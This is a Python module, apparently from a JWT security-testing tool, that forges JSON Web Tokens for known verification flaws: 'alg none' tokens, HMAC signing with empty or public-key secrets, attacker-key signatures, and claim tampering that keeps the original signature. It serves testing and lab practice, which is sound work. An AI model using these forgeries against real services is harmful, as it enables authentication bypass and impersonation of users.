"""The attacker's side: tokens made by hand, the way jwt_tool and the PortSwigger labs make them.

Nothing here is used by a server. HMAC signatures are computed with `hmac` directly, because
PyJWT rightly refuses the keys these attacks need (an empty key, a public key as a secret);
the other algorithms sign with PyJWT's own algorithm objects, over the exact bytes given.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

from authcli.encoding import b64url
from authcli.tokens.jsonedit import edit
from authcli.tokens.parse import b64url_decode, split

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def _segment(data: dict[str, Any]) -> str:
    return b64url(json.dumps(data, separators=(",", ":")).encode())


def signing_input(header: dict[str, Any], payload: dict[str, Any]) -> str:
    return f"{_segment(header)}.{_segment(payload)}"


def signature(alg: str, key: Any, head: str) -> bytes:
    """The signature of `head` (header.payload, as it will be sent): HMAC over any secret at all,
    even an empty one; a private key (cryptography's object) for RS*, PS*, ES* and EdDSA."""
    if alg in HASHES:
        return hmac.new(key, head.encode("ascii"), HASHES[alg]).digest()
    from authcli.tokens.keys import pyjwt

    algorithm = pyjwt().get_algorithm_by_name(alg)
    return algorithm.sign(head.encode("ascii"), algorithm.prepare_key(key))


def sign_hmac(header: dict[str, Any], payload: dict[str, Any], secret: bytes) -> str:
    """header.payload.signature with HMAC over any secret at all, even an empty one."""
    head = signing_input(header, payload)
    return f"{head}.{b64url(signature(header['alg'], secret, head))}"


def unsigned(header: dict[str, Any], payload: dict[str, Any]) -> str:
    """alg none: the signature part is empty."""
    return f"{signing_input(header, payload)}."


def sign_with(private: Any, header: dict[str, Any], payload: dict[str, Any]) -> str:
    """A real signature with the attacker's own private key (PyJWT)."""
    from authcli.tokens.keys import pyjwt

    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return pyjwt().encode(payload, private, algorithm=header["alg"], headers=extra or None)


def edited_segment(segment: str, raw: bytes, sets: dict[str, Any], deletes: tuple[str, ...] = ()) -> str:
    """A segment with members set and deleted (jsonedit: the rest keeps its bytes); the very
    same base64url text when nothing changed."""
    text = raw.decode("utf-8")
    new = edit(text, sets, deletes)
    return segment if new == text else b64url(new.encode("utf-8"))


def tampered(token: str, **claims: Any) -> str:
    """The same header and signature, with claims changed in the payload (the rest of its JSON
    as the server wrote it)."""
    parts = split(token)
    payload = edited_segment(parts.payload_b64, b64url_decode(parts.payload_b64, "payload"), claims)
    return f"{parts.header_b64}.{payload}.{parts.signature_b64}"
